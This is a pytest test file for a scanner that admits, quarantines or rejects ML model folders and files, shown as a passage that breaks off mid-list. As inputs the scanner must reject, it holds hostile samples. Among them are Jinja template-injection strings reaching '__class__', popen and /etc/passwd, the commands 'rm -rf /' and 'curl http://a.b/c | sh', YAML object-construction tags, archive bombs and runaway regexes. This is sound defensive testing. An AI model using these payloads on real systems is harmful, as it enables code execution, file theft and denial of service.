import base64
import errno
import gzip
import json
import os
import socket
import struct
import tarfile
import time
import warnings
from pathlib import Path

import pytest

from pedigree.admission import receiving
from pedigree.admission.receiving import receive
from pedigree.admission.scan import scan_bytes, scan_path, scan_received
from pedigree.admission.verdict import Limits
from pedigree.digests import digest_manifest
from pedigree.errors import PedigreeError
from tests.unit.admission.artifacts import (
    hostile,
    model_folder,
    onnx_bytes,
    protobuf_field,
    safetensors_bytes,
    tar_bytes,
)

CHAT = (
    "{% for message in messages %}{% if message['role'] == 'user' %}<|user|>{{ message['content'] "
    "| trim }}{% else %}{% generation %}{{ message.content.strip() }}{% endgeneration %}{% endif %}"
    "{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}"
)


def by_file(path: Path) -> dict[str, str]:
    scan = scan_path(path)
    assert scan.outcome == "rejected"
    found: dict[str, str] = {}
    for finding in scan.findings:
        found[finding.file] = found.get(finding.file, "") + finding.reason
    return found


def test_a_model_folder_is_admitted_and_named_by_its_bytes(tmp_path: Path) -> None:
    first = scan_path(model_folder(tmp_path / "a"))
    assert (first.outcome, first.findings) == ("admitted", ())
    second = scan_path(model_folder(tmp_path / "b"))
    assert second.digest == first.digest
    (tmp_path / "b" / "LICENSE").write_text("x")
    assert scan_path(tmp_path / "b").digest != first.digest
    assert json.loads(json.dumps(first.describe()))["state"] == "admitted"


def test_a_repository_that_brings_code_is_rejected_naming_each(tmp_path: Path) -> None:
    folder = model_folder(tmp_path / "m")
    (folder / "config.json").write_text(
        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}})
    )
    (folder / "modeling_x.py").write_text("import torch\n")
    (folder / "setup.py").write_text("from setuptools import setup\nsetup()\n")
    (folder / "run.sh").write_text("#!/bin/sh\nid\n")
    (folder / "fast.so").write_bytes(b"\x7fELF" + bytes(60))
    (folder / ".gitattributes").write_text("* filter=x\n")
    (folder / ".git").mkdir()
    (folder / ".git" / "config").write_text("[core]\n")
    (folder / "pytorch_model.bin").write_bytes(hostile(tmp_path / "canary"))
    found = by_file(folder)
    named = {"config.json", "modeling_x.py", "setup.py", "run.sh", "fast.so", ".gitattributes"}
    assert named | {".git/config", "pytorch_model.bin"} <= set(found)
    assert "auto_map" in found["config.json"]
    assert "program" in found["fast.so"]
    assert "os.system" in found["pytorch_model.bin"]
    assert not (tmp_path / "canary").exists()


def test_content_counts_and_not_the_name(tmp_path: Path) -> None:
    folder = model_folder(tmp_path / "m")
    (folder / "model.safetensors").write_bytes(hostile(tmp_path / "canary", 2))
    (folder / "LICENSE").write_bytes(b"\x7fELF" + bytes(60))
    (folder / "README.md").write_text("import os\n\ndef run():\n    os.system('id')\n")
    (folder / "vocab.txt").write_text("#!/bin/sh\n")
    (folder / "tokenizer.json").write_bytes(hostile(tmp_path / "canary"))
    assert set(by_file(folder)) == {
        "model.safetensors", "LICENSE", "README.md", "vocab.txt", "tokenizer.json",
    }  # fmt: skip


def test_links_pipes_and_sockets_are_not_followed(tmp_path: Path) -> None:
    folder = model_folder(tmp_path / "m")
    (folder / "again").symlink_to(folder)
    (folder / "config.json").unlink()
    (folder / "config.json").symlink_to("/etc/passwd")
    os.mkfifo(folder / "README.txt")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(folder / "NOTICE"))
        assert set(by_file(folder)) == {"again", "config.json", "README.txt", "NOTICE"}
    (tmp_path / "link").symlink_to(folder)
    assert scan_path(tmp_path / "link").outcome == "rejected"


def test_odd_names_empty_folders_and_nothing_at_all(tmp_path: Path) -> None:
    folder = model_folder(tmp_path / "m")
    (folder / "a\nb.safetensors").write_bytes(safetensors_bytes())
    (folder / "MODEL.safetensors").write_bytes(safetensors_bytes())
    found = by_file(folder)
    assert "control characters" in found["a\\nb.safetensors"]
    assert "same as" in found["model.safetensors"]
    (tmp_path / "empty").mkdir()
    assert "no file" in by_file(tmp_path / "empty")["."]
    with pytest.raises(PedigreeError, match="nothing to admit"):
        scan_path(tmp_path / "missing")
    with pytest.raises(PedigreeError, match="nothing to admit"):
        scan_path(Path("a\0b"))


def test_a_missing_shard_is_named(tmp_path: Path) -> None:
    folder = model_folder(tmp_path / "m")
    index = folder / "model.safetensors.index.json"
    index.write_text(json.dumps({"weight_map": {"a": "model.safetensors"}}))
    assert scan_path(folder).outcome == "admitted"
    index.write_text(json.dumps({"weight_map": {"a": "model-2.safetensors"}}))
    assert "model-2.safetensors" in by_file(folder)[index.name]
    index.write_text(json.dumps({"weight_map": {"a": "../x.safetensors"}}))
    assert "beside it" in by_file(folder)[index.name]


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
def test_what_may_not_be_read_is_never_clean(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    path.write_bytes(safetensors_bytes())
    path.chmod(0)
    scan = scan_path(path)
    assert scan.outcome == "quarantined"
    assert "not looked at" in scan.findings[0].reason


def test_a_file_that_grows_while_it_is_read_is_rejected(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "model.safetensors"
    path.write_bytes(safetensors_bytes())
    copy = os.copy_file_range

    def grow(*arguments: int) -> int:
        with path.open("ab") as stream:
            stream.write(bytes(1 << 20))
        return copy(*arguments)

    monkeypatch.setattr(os, "copy_file_range", grow)
    assert "changed while it was read" in by_file(path)["model.safetensors"]


def test_many_files_are_taken_at_once_with_the_same_result_and_no_file_left_open(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "m"
    for number in range(60):
        part = folder / f"{number % 7}"
        part.mkdir(parents=True, exist_ok=True)
        (part / f"{number}.txt").write_text(f"{number}\n" * (60 - number))
        if number % 9 == 0:
            (part / f"link-{number}").symlink_to("/etc/passwd")
    opened = len(list(Path("/proc/self/fd").iterdir())) if Path("/proc/self/fd").is_dir() else 0
    received = [receive(folder, tmp_path / f"store-{n}") for n in range(3)]
    if opened:
        assert len(list(Path("/proc/self/fd").iterdir())) <= opened
    assert len({one.digest for one in received}) == 1
    assert received[0].digest == digest_manifest(received[0].files)
    paths = [entry.path for entry in received[0].files]
    assert paths == sorted(paths)
    assert len(paths) == 60
    problems = [problem.path for problem in received[0].problems]
    assert problems == sorted(problems)
    assert len(problems) == 7


@pytest.mark.parametrize("error", [errno.ENOSPC, errno.EIO])
def test_a_full_disk_ends_it_and_a_file_that_cannot_be_read_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, error: int
) -> None:
    folder = model_folder(tmp_path / "m")

    def fail(*_arguments: object) -> None:
        raise OSError(error, os.strerror(error))

    monkeypatch.setattr(receiving, "_copy", fail)
    if error == errno.ENOSPC:
        with pytest.raises(PedigreeError, match="disk is full"):
            receive(folder, tmp_path / "store")
        return
    received = receive(folder, tmp_path / "store")
    assert received.files == ()
    assert {problem.rule for problem in received.problems} == {"unreadable"}
    assert scan_received(received).outcome != "admitted"


def test_the_copy_is_what_is_scanned(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    path.write_bytes(safetensors_bytes())
    received = receive(path, tmp_path / "store")
    path.write_bytes(hostile(tmp_path / "canary"))
    scan = scan_received(received)
    assert scan.outcome == "admitted"
    copy = tmp_path / "store" / received.digest.removeprefix("sha256:")
    assert copy.read_bytes() == safetensors_bytes()
    assert not copy.stat().st_mode & 0o222


def test_a_scanner_that_fails_is_never_clean(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_arguments: object) -> None:
        raise RuntimeError

    monkeypatch.setattr("pedigree.admission.safetensors_file.judge_safetensors", fail)
    assert scan_bytes(safetensors_bytes(), "a.safetensors").outcome == "quarantined"


@pytest.mark.parametrize(
    "text",
    [
        CHAT,
        "{{ bos_token }}{% for m in messages[1:] %}{{ m['role'].title() + ': ' }}{% endfor %}",
        "{% macro f(x) %}{{ x }}{% endmacro %}{% set ns = namespace(i=0) %}{{ f(ns.i) }}"
        "{{ tools | tojson(indent=4) }}{{ raise_exception('no') }}",
        "{{ messages | selectattr('role', 'equalto', 'user') | map(attribute='content') | join }}",
    ],
)
def test_templates_of_published_models_are_admitted(text: str) -> None:
    data = json.dumps({"chat_template": text}).encode()
    assert scan_bytes(data, "tokenizer_config.json").findings == ()
    assert scan_bytes(text.encode(), "chat_template.jinja").outcome == "admitted"


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__ }}", "{{ ''['__class__'] }}", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
        "{{ ''['__cla' ~ 'ss__'] }}", "{{ x['_' * 2 + 'class'] }}", "{{ x | attr('y') }}",
        "{{ cycler.next }}", "{{ self }}", "{% include 'x' %}", "{% import 'x' as y %}",
        "{{ messages | map('attr', 'x') }}", "{{ messages | map(attribute='_x') }}",
        "{{ open('/etc/passwd') }}", "{{ x.popen('id') }}", "{{ '{0.x}'.format(y) }}",
        "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
        "{{ 'a' * 1000000000 }}", "{% if %}", "{{ (x or y)() }}", "{{ x | map(attribute=y) }}",
    ],
)  # fmt: skip
def test_templates_that_reach_out_are_rejected(text: str) -> None:
    for name, data in {
        "tokenizer_config.json": json.dumps({"chat_template": text}),
        "chat_template.json": json.dumps({"chat_template": [{"name": "a", "template": text}]}),
        "chat_template.jinja": text,
    }.items():
        assert scan_bytes(data.encode(), name).outcome == "rejected", name


@pytest.mark.parametrize(
    "value",
    [
        {"auto_map": {"AutoModel": "x.Y"}}, {"a": {"b": [{"auto_map": {"A": "b"}}]}},
        {"trust_remote_code": True}, {"_target_": "os.system"}, {"py/object": "x"},
        {"x": "import os; os.system('id')"}, {"x": "rm -rf /"}, {"hidden_size": "2"},
        {"model_type": "../x"}, {"architectures": ["a b"]},
    ],
)  # fmt: skip
def test_configurations_that_bring_code_are_rejected(value: object) -> None:
    assert scan_bytes(json.dumps(value).encode(), "config.json").outcome == "rejected"


def test_json_that_readers_understand_differently_is_rejected() -> None:
    long = '{"a":' + "9" * 5000 + "}"
    for text in ('{"a":1,"a":2}', '{"a":NaN}', "{} x", "[" * 100 + "]" * 100, long):
        assert scan_bytes(text.encode(), "config.json").outcome == "rejected", text[:20]


def test_texts_made_to_keep_a_pattern_busy_end_soon() -> None:
    began = time.process_time()
    for piece in ("{", '"', "{{", "{% ", "<", "```\n", "$(a", "curl -a ", "def f()", "import "):
        text = piece * (300_000 // len(piece))
        for name, data in {"README.md": text, "config.json": json.dumps({"x": text})}.items():
            scan_bytes(data.encode(), name)
    assert time.process_time() - began < 20


def test_a_vocabulary_may_be_large_and_hold_any_word() -> None:
    words = {f"w{i}": i for i in range(200_000)} | {"auto_map": 1, "{{": 2, "__class__": 3}
    data = json.dumps({"model": {"vocab": words, "merges": [["a", "b"]] * 200_000}}).encode()
    assert scan_bytes(data, "tokenizer.json").findings == ()


def test_onnx_gguf_and_others() -> None:
    assert scan_bytes(onnx_bytes(), "m.onnx").findings == ()
    assert "com.evil.Relu" in scan_bytes(onnx_bytes(b"com.evil"), "m").findings[0].reason
    assert scan_bytes(onnx_bytes(external=True), "m").findings[0].rule == "onnx_external_data"

    def gguf(text: str) -> bytes:
        key, value = b"tokenizer.chat_template", text.encode()
        entry = struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(value)) + value
        return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + entry

    assert scan_bytes(gguf(CHAT), "m.gguf").outcome == "admitted"
    assert scan_bytes(gguf("{{ x.__class__ }}"), "m.gguf").outcome == "rejected"
    assert scan_bytes(gguf(CHAT)[:-3], "m.gguf").outcome == "rejected"
    keras = b"\x89HDF\r\n\x1a\n" + b'{"class_name": "%s"}'
    assert scan_bytes(keras % b"Lambda", "m.h5").outcome == "rejected"
    assert scan_bytes(keras % b"Dense", "m.h5").outcome == "quarantined"
    assert scan_bytes(b"7z\xbc\xaf\x27\x1c" + bytes(40), "m.7z").outcome == "quarantined"
    assert scan_bytes(tar_bytes({"../x": b"a"}), "m.tar").outcome == "rejected"


@pytest.mark.parametrize("left", range(4, 31))
def test_a_zip_that_ends_within_a_member_header_is_rejected_and_not_a_failure(left: int) -> None:
    """Its directory is lost, so every member's own header is looked for, also the last, cut one."""
    header = b"PK\x03\x04" + bytes(range(1, 27))
    scan = scan_bytes(b"PK\x03\x04" + bytes(26) + b"plain" + header[:left], "a.bin")
    assert scan.outcome == "rejected"
    assert [finding.rule for finding in scan.findings if finding.rule == "scan_failed"] == []


def test_a_header_of_numpy_that_python_warns_of_prints_nothing() -> None:
    header = b"{'descr': 0in [], 'fortran_order': False, 'shape': (1,), }\n"
    data = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(8)
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        scan = scan_bytes(data, "a.npy")
    assert seen == []
    assert scan.outcome == "rejected"
    assert [finding.rule for finding in scan.findings] == ["npy"]


def test_a_name_twice_among_very_many_is_found_at_once() -> None:
    names = ",".join(f'"k{i}":0' for i in range(100_000))
    began = time.process_time()
    scan = scan_bytes(f'{{{names},"k99999":1}}'.encode(), "config.json")
    assert time.process_time() - began < 5
    assert "'k99999' is there twice" in scan.findings[0].reason


def test_texts_of_one_character_keep_no_pattern_busy() -> None:
    began = time.process_time()
    for text in ("\\" * 99_000, "lambda" + " " * 99_000, "<script" * 9_000, "`" * 99_000):
        for name, data in {"README.md": text, "config.json": json.dumps({"x": text})}.items():
            scan_bytes(data.encode(), name)
    assert time.process_time() - began < 5


def test_json_of_more_values_than_any_vocabulary_is_rejected_before_it_is_parsed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("pedigree.admission.strict_json._MAX_VALUES", 1000)
    for name, data in {
        "config.json": b'{"a":[' + b"[]," * 1000 + b"0]}",
        "a.safetensors": safetensors_bytes(b'{"a":[' + b"{}," * 1000 + b"0]}"),
    }.items():
        assert "more than 1000 values" in scan_bytes(data, name).findings[0].reason
    assert scan_bytes(b'{"a": 1e999}', "config.json").outcome == "rejected"


def zip_of_shared_bytes(members: int, size: int) -> bytes:
    """Return a zip each of whose members is the whole of one content."""
    fields = (20, 0, 0, 0, 0, 0, size, size, 1, 0)
    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", *fields) + b"x" + b"a" * size
    entry = struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, size, size, 6, *[0] * 6)
    directory = b"".join(
        b"PK\x01\x02" + entry[:-4] + bytes(4) + b"%06d" % i for i in range(members)
    )
    count = min(members, 65_535)
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(local), 0)
    return local + directory + b"PK\x05\x06" + end


def test_archives_that_would_keep_the_scan_busy_end_at_a_limit() -> None:
    began = time.process_time()
    header = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, *[0] * 7, 1, 0) + b"x"
    long_header = tarfile.TarInfo("a")
    long_header.type, long_header.size = tarfile.XHDTYPE, 8 << 20
    for name, data in {
        "shared.zip": zip_of_shared_bytes(10_000, 1 << 20),
        "no_directory.zip": (header + b"hello world " * 400) * 2_000,
        "directory.zip": zip_of_shared_bytes(350_000, 1),
        "streams.gz": gzip.compress(b"") * 30_000,
        "header.tar": long_header.tobuf(tarfile.USTAR_FORMAT) + b"1" * (8 << 20) + bytes(1024),
    }.items():
        assert scan_bytes(data, name).outcome == "rejected", name
    assert time.process_time() - began < 20


def gguf_bytes(
    sizes: list[int], kind: int = 0, after: bytes = b"", key: bytes = b"", value: bytes = b""
) -> bytes:
    """Return a GGUF file of one tensor with 64 bytes behind its table."""
    entry = struct.pack("<Q", len(key)) + key + value if key else b""
    table = struct.pack("<Q", 1) + b"w" + struct.pack("<I", len(sizes))
    table += b"".join(struct.pack("<Q", size) for size in sizes) + struct.pack("<IQ", kind, 0)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, bool(key)) + entry + table
    return head + bytes(-len(head) % 32) + bytes(64) + after


def test_tensors_of_gguf_lie_within_the_file() -> None:
    assert scan_bytes(gguf_bytes([16]), "m.gguf").findings == ()
    assert scan_bytes(gguf_bytes([32, 2], 2), "m.gguf").findings == ()
    for sizes in ([1 << 40, 1 << 40], [17], [0], [1] * 5):
        assert scan_bytes(gguf_bytes(sizes), "m.gguf").outcome == "rejected", sizes
    assert scan_bytes(gguf_bytes([16], 2), "m.gguf").outcome == "rejected"  # half a block
    assert scan_bytes(gguf_bytes([16], 999), "m.gguf").outcome == "quarantined"
    assert scan_bytes(gguf_bytes([16], after=bytes(100)), "m.gguf").outcome == "quarantined"
    templates = struct.pack("<IIQQ", 9, 8, 1, 1) + b"x"
    listed = gguf_bytes([16], key=b"tokenizer.chat_template", value=templates)
    assert "is no text" in scan_bytes(listed, "m.gguf").findings[0].reason


def test_operators_that_the_model_itself_is_made_of_are_not_custom() -> None:
    node = protobuf_field(4, b"F") + protobuf_field(7, b"local")
    inner = protobuf_field(4, b"Relu")
    made = protobuf_field(1, b"F") + protobuf_field(10, b"local")
    start = protobuf_field(1, 7) + protobuf_field(7, protobuf_field(1, node))
    start += protobuf_field(8, protobuf_field(1, b"local") + protobuf_field(2, 1))

    def function(body: bytes) -> bytes:
        content = made + protobuf_field(7, body)
        return b"\xca\x01" + bytes([len(content)]) + content

    assert scan_bytes(start + function(inner), "m.onnx").findings == ()
    assert "local.F" in scan_bytes(start, "m.onnx").findings[0].reason
    other = function(inner + protobuf_field(7, b"com.evil"))
    assert "com.evil.Relu" in scan_bytes(start + other, "m.onnx").findings[0].reason


def sentencepiece_bytes(normaliser: bytes = b"", more: bytes = b"") -> bytes:
    piece = protobuf_field(1, b"a") + bytes([2 << 3 | 5]) + bytes(4)
    spec = protobuf_field(1, b"nmt") + normaliser
    return protobuf_field(1, piece) + protobuf_field(2, b"") + protobuf_field(3, spec) + more


def test_word_lists_and_their_tables_of_characters_are_looked_into() -> None:
    table = struct.pack("<I", 8) + bytes(8) + b"a\0"
    short = struct.pack("<I", 800) + bytes(8)
    assert scan_bytes(sentencepiece_bytes(protobuf_field(2, table)), "spm.model").findings == ()
    assert scan_bytes(sentencepiece_bytes(protobuf_field(2, short)), "spm.model").findings != ()
    extra = sentencepiece_bytes(more=protobuf_field(9, b"x"))
    assert "field 9" in scan_bytes(extra, "tokenizer.model").findings[0].reason

    def tokenizer(content: bytes) -> bytes:
        text = base64.b64encode(content).decode()
        return json.dumps({"normalizer": {"precompiled_charsmap": text}}).encode()

    real = struct.pack("<I", 180_000) + bytes(180_000) + b"word\0" * 9_000
    assert scan_bytes(tokenizer(real), "tokenizer.json").findings == ()
    for broken in (short, b"abc", table + b"a", struct.pack("<I", 3) + bytes(8)):
        assert scan_bytes(tokenizer(broken), "tokenizer.json").outcome == "rejected"


@pytest.mark.parametrize(
    ("pattern", "runs_away"),
    [
        (r"(a+)+$", True), (r"(?:\p{L}*)*x", True), (r"(x|x)*y", True), (r"((a{1,}b?)+)+", True),
        (r"(a|b||c)*", True), (r"(?:[a-z]+[0-9]*){2,}", True),
        (r"'s|'t| ?\p{L}+| ?\p{N}+| ?[^\s\p{L}\p{N}]+|\s+(?!\S)|\s+", False),
        (r"(?i:'s|'t)|[^\r\n\p{L}]?\p{L}+|\p{N}{1,3}|\s*[\r\n]+|\s+(?!\S)", False),
        (r"\d{1,3}(?=(?:\d{3})*\b)", False), (r" ?[^(\s|[.,!?])]+", False), (r"(?>a+)+", False),
        (r"(?:a++)+", False), (r"(a\)+", False), (r"[", False), (r")+", False), (r"(a|b)+", False),
    ],
)  # fmt: skip
def test_patterns_that_may_run_away_are_for_a_person(pattern: str, runs_away: bool) -> None:
    data = json.dumps({"pre_tokenizer": {"pattern": {"Regex": pattern}}}).encode()
    expected = "quarantined" if runs_away else "admitted"
    assert scan_bytes(data, "tokenizer.json").outcome == expected


@pytest.mark.parametrize(
    "text",
    [
        "{% for a in range(900) %}{% for b in range(900) %}{% for c in range(900) %}x{% endfor %}"
        "{% endfor %}{% endfor %}",
        "{% set n = 9999 %}{% for a in range(n) %}{% for b in range(n) %}{% endfor %}{% endfor %}",
        "{{ 'a' * 9999 * 9999 * 9999 }}", "{% set n = 9999 %}{{ 'a' * n * n * n }}",
        "{% set ns = namespace(x='a') %}{% for i in y %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}",
        "{% set ns = namespace(x='a') %}{% for i in y %}{% set ns.x = ns.x | tojson %}{% endfor %}",
        "{% set ns = namespace(x='a', y='') %}{% for i in z %}{% set ns.y = ns.x %}"
        "{% set ns.x = ns.x ~ ns.y %}{% endfor %}",
        "{% set a = 'aa' %}" + "{% set a = a ~ a %}" * 40,
        "{{ 'a'.ljust(999999) }}", "{{ 'a' | center(999999) }}", "{{ '%999999d' % 1 }}",
        "{{ '{:999999}'.format(1) }}", "{{ x ** 99 }}",
        "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(6) }}",
        "{% macro f(s, n) %}{% if n %}{{ f(s ~ s, n - 1) }}{% endif %}{% endmacro %}{{ f(x, 6) }}",
        "{% for x in y recursive %}{{ loop([1, 2]) }}{% endfor %}",
        "{% macro f(n) %}{% if n %}{% for t in [n - 1, n - 1] %}{{ f(t) }}{% endfor %}{% endif %}"
        "{% endmacro %}{{ f(64) }}",
        "{% macro f(n) %}{{ g[0](n - 1) }}{{ g[0](n - 1) }}{% endmacro %}{% set g = [f] %}",
        "{% macro f(s, n) %}{% if n %}{{ f(s.replace('a', 'aa'), n - 1) }}{% endif %}{% endmacro %}"
        "{{ f('a', 64) }}",
        "{% macro f(x) %}{{ f({'n': x.n - 1}) }}{{ f({'n': x.n - 1}) }}{% endmacro %}",
        "{% set ns = namespace(x='a') %}{% for i in y %}"
        "{% set ns.x = 'a' * (ns.x | length | string | int * 2) %}{% endfor %}",
        "{% set ns = namespace(x='a') %}{% for i in y %}{% set l = ns.x.split('b') %}"
        "{% set ns.x = l[0] ~ l[0] %}{% endfor %}",
        "{% set ns = namespace(x='a') %}{% for i in y %}{% set l = [ns.x, ns.x] %}"
        "{% set ns.x = l[0] ~ l[1] %}{% endfor %}",
        "{% set ns = namespace(l=['a']) %}{% for i in y %}{% set p = ns.l[-1] %}"
        "{% set ns.l = ns.l[:-1] + [p ~ p] %}{% endfor %}",
    ],
)  # fmt: skip
def test_templates_that_grow_or_go_on_without_a_bound_are_not_admitted(text: str) -> None:
    assert scan_bytes(text.encode(), "chat_template.jinja").outcome != "admitted"


def test_templates_of_many_names_and_macros_are_judged_soon() -> None:
    calls = "".join(f"{{{{ m{i}(x) }}}}" for i in range(39))
    macros = "".join(f"{{% macro m{i}(x) %}}{calls}{{% endmacro %}}" for i in range(99))
    chain = "".join(f"{{% set a{i} = a{i - 1} ~ b{i} %}}" for i in range(1, 400))
    ring = "".join(f"{{% set n.a{i} = n.a{(i + 1) % 400} %}}" for i in range(400))
    began = time.process_time()
    for text in (macros, chain, ring, "{{ " + "a ~ " * 40_000 + "a }}"):
        scan_bytes(text.encode(), "chat_template.jinja")
    assert time.process_time() - began < 20


def test_templates_are_judged_up_to_a_limit_in_all() -> None:
    data = json.dumps({"chat_template": [{"name": "a", "template": "{{ a }}" * 100}] * 20}).encode()
    assert scan_bytes(data, "tokenizer_config.json").outcome == "admitted"
    scan = scan_bytes(data, "tokenizer_config.json", Limits(templates=10_000))
    assert [finding.rule for finding in scan.findings] == ["too_much"]


@pytest.mark.parametrize(
    "text",
    [
        "{% set a = '_' ~ '_class_' ~ '_' %}{{ ''[a] }}",
        "{% set a = ['_', '_class_', '_'] %}{{ ''[a | join] }}",
        "{% set ns = namespace(k='') %}{% set ns.k = '_' ~ '_class_' ~ '_' %}{{ ''[ns.k] }}",
        "{% set a %}_{% endset %}{{ ''[a ~ '_class_' ~ a] }}",
        "{% set joiner = 1 %}{{ joiner }}",
        "{{ x | join('', attribute=y) }}",
        "{{ ''[dict(__class__=1) | first] }}", "{{ ''[dict(__cl=1, ass__=1) | join] }}",
        "{% set u = (raise_exception | string)[15] %}{{ ''[u ~ u] }}{% set k = u ~ u %}{{ x[k] }}",
        "{% macro u() %}_{% endmacro %}{% set k = u() ~ u() ~ 'class' %}{{ ''[k] }}",
        "{% macro f(a) %}{% set k = a ~ a ~ 'class' %}{{ ''[k] }}{% endmacro %}{{ f('_') }}",
        "{% macro f(a='_') %}{% set k = a ~ a %}{{ ''[k] }}{% endmacro %}",
        "{% macro f() %}{% set k = varargs[0] ~ 'x' %}{{ ''[k] }}{% endmacro %}{{ f('_') }}",
        "{% macro f() %}{% set k = caller() ~ 'a' %}{{ ''[k] }}{% endmacro %}"
        "{% call f() %}_{% endcall %}",
        "{% for a in ['_'] %}{% set k = a ~ a ~ 'class' %}{{ ''[k] }}{% endfor %}",
        "{% set a, b = '_', '' %}{% set k = a ~ a ~ 'class' %}{{ ''[k] }}",
        "{% with a = '_' %}{% set k = a ~ a ~ 'class' %}{{ ''[k] }}{% endwith %}",
        "{% set k | replace('x', '_') %}xxclass{% endset %}{{ ''[k] }}",
        "{% set d = {'a': '_'} %}{% set u = d.get('a') %}{% set k = u ~ u ~ 'class' %}{{ ''[k] }}",
        "{% set k = '__ssalc__' %}{% set m = k[::-1] %}{{ ''[m] }}", "{{ __builtins__ }}",
        "{% set l = [x.y] %}{{ l[0](1) }}", "{% set l = [f] %}{{ l[0](1) }}",
        "{% set a = a" + " ~ a" * 30_000 + " %}" + "{{ x[a] }}" * 5_000,
    ],
)  # fmt: skip
def test_names_that_a_template_builds_beforehand_are_found(text: str) -> None:
    assert scan_bytes(text.encode(), "chat_template.jinja").outcome == "rejected"


@pytest.mark.parametrize(
    "text",
    [
        "{% macro f(v) %}{% if v is mapping %}{% for k, x in v | dictsort %}{{ f(x) }}{% endfor %}"
        "{% for i in v %}{{ f(i) }}{% endfor %}{% endif %}{% endmacro %}{{ f(tools) }}",
        "{% macro t(s) %}{{ t(s['items']) }}{{ t(s.other) }}{% endmacro %}{{ t(tools) }}",
        "{% set ns = namespace(out='') %}{% for p in text.split('x') %}"
        "{% set ns.out = ns.out ~ p ~ '\\n' %}{% endfor %}{{ ns.out | trim }}",
        "{% set type = 'a' %}{{ roles[message['role'] | lower] }}{{ type }}{{ message.system }}",
        "{{ '{}: {}'.format(a, b) }}{{ '  ' * (depth + 1) }}{{ '=' * 80 }}",
        "{% for i in range(messages | length) %}{% for j in range(i) %}x{% endfor %}{% endfor %}",
        "{% set index = (messages | length - 1) - loop.index0 %}{{ messages[index]['role'] }}",
        "{% set c = m.content %}{% set c = c.split('</think>')[-1].lstrip() %}{{ c }}",
        "{% for m in messages + [{'role': '__end__'}] %}{% if m.role != '__end__' %}x{% endif %}"
        "{% endfor %}{{ '<__image__>' in text }}{% set __text %}a{% endset %}{{ __text }}",
        "{% set code = item['lang_code'] | replace('_', '-') %}{{ languages[code] }}",
        "{% set task = m.get('task_name', none) %}{{ tokens[task] }}",
        "{% set last = {'role': 'the_judge', 'content': 'a_b ' ~ c} %}"
        "{% set all = messages + [last] %}{{ scores[all[-1]['role']] }}",
        "{% set s = namespace(next_image=0) %}{{ images[s.next_image] }}"
        "{% set s.next_image = s.next_image + 1 %}",
        "{% macro a(x) %}{{ x }}{% endmacro %}{% macro b(x) %}{{ x }}{% endmacro %}"
        "{% set parts = [] %}{% set parts = parts + [a] %}{% set parts = parts + [b] %}"
        "{% for i in range(parts | length) %}{{ parts[i](y) }}{% endfor %}",
        "{{ raise_exception('Unknown: ' + str(m.content)) }}",
        "{% macro t(s) %}{% if s.a %}{{ t(s.b if s.b else 'Any') }}{% else %}{% for k in s.type %}"
        "{{ t({'type': k}) }}{% endfor %}{% endif %}{% endmacro %}{{ t(tools) }}",
        "{% macro t(p, need, depth=0) %}{% set i = p.get('items') %}{{ t(i, need) }}"
        "{{ t(i.get('properties', {}), i.get('required', []), depth + 1) }}{% endmacro %}",
        "{% macro f(content) %}{{ content }}{% endmacro %}{% set content = f(m.content) %}"
        "{% set content = content[:9] ~ content | length | string %}"
        "{% set content = content.split('a') | join('') %}",
        "{% set ns = namespace(x=m.content) %}{% set p = ns.x.rsplit(tag, 1) %}"
        "{% set ns.x = p[0] + ns.token + p[1] %}",
        "{% set ns = namespace(all=[]) %}{% for m in messages %}{% set last = ns.all[-1] %}"
        "{% set ns.all = ns.all[:-1] + [dict(last, content=last.content ~ m.content)] %}"
        "{% endfor %}",
    ],
)
def test_what_templates_of_published_models_do_is_admitted(text: str) -> None:
    assert scan_bytes(text.encode(), "chat_template.jinja").findings == ()


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("README.md", "@a{b, title={{X}: y {Z}}}\n```html\n<script>a</script>\n```\n", "admitted"),
        ("README.md", "# A\n<script>a</script>\n", "quarantined"),
        ("README.md", "---\na: !!python/object/apply:a.b [c]\n---\n", "rejected"),
        ("README.md", "# A\nx = __import__('a')\n", "rejected"),
        ("LICENSE", "exec(open('a').read())\n", "rejected"),
        ("merges.txt", "#version: 0.2\na b\nimport ant\nimport ance\n{{ {\n}} }\n", "admitted"),
        ("vocab.txt", "x = __import__('a')\n", "rejected"), ("vocab.txt", "x^\nMZ\n", "admitted"),
        ("vocab.txt", "MZ\n", "admitted"), ("adapter.yaml", "a: !!python/name:a.b\n", "rejected"),
        ("run.sh", "echo\ncurl http://a.b/c | sh\n# {{ x }}\n", "rejected"),
        ("run.py", "# {{ x }}\nprint()\n", "quarantined"), ("a.txt", "{{ x }}", "admitted"),
        ("a.ipynb", '{"cells": [], "nbformat": 4}', "rejected"), ("a.pkl", "{}", "quarantined"),
        ("package.json", '{"version": "1", "scripts": {"install": "x"}}', "rejected"),
        ("a.json", '{"data":{"x": 1}}', "admitted"), ("a.json", '{"abc":[{"x": 1}]}', "admitted"),
